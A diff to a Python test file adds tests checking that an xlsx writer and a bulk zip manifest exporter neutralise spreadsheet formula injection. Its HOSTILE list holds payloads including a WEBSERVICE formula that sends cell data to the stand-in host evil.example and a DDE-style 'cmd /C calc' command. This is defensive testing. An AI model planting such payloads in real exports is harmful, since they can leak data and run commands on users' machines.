@@ -411,3 +411,41 @@ def test_it_writes_a_valid_xlsx_to_a_file_object_even_without_sheets():
     out = io.BytesIO()
     xlsx_write(out, [])
     assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).sheetnames == ["Sheet"]
+
+
+HOSTILE = [
+    '\x01=WEBSERVICE("http://evil.example/?"&A2)',
+    "\x00\x1f+cmd|' /C calc'!A0",
+    "\x0b-2+3",
+    "\x02@SUM(1+1)",
+    '=HYPERLINK("http://evil.example")',
+]
+
+
+def test_it_writes_no_formula_cell_whatever_control_characters_come_first(tmp_path):
+    path = tmp_path / "out.xlsx"
+    xlsx_write(path, [("Results", [["firm", "note"], *([text, text] for text in HOSTILE)])])
+    with zipfile.ZipFile(path) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    values = [row for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)]
+    assert all(str(cell).startswith("'") for row in values for cell in row)
+    assert values[0][0] == "'" + '=WEBSERVICE("http://evil.example/?"&A2)'
+
+
+def test_it_neutralises_every_manifest_column_of_a_bulk_zip(tmp_path):
+    from assessment.exports import write_bundle
+
+    pdf = tmp_path / "r.pdf"
+    pdf.write_bytes(b"%PDF-1.7\n")
+    items = [
+        {"firm": text, "result": {"overall": 50}, "status": text, "error": text, "path": pdf, "filename": f"{text}.pdf"}
+        for text in ("=1+1", "+1", "-1", "@A1", "\x01=1+1")
+    ]
+    target = io.BytesIO()
+    write_bundle(target, items, [])
+    with zipfile.ZipFile(target) as bundle:
+        rows = list(csv.reader(io.StringIO(bundle.read("manifest.csv").decode("utf-8-sig"))))
+    for row in rows[1:]:
+        for cell in [row[0], *row[2:]]:
+            assert not cell.startswith(tables.FORMULA_START), row
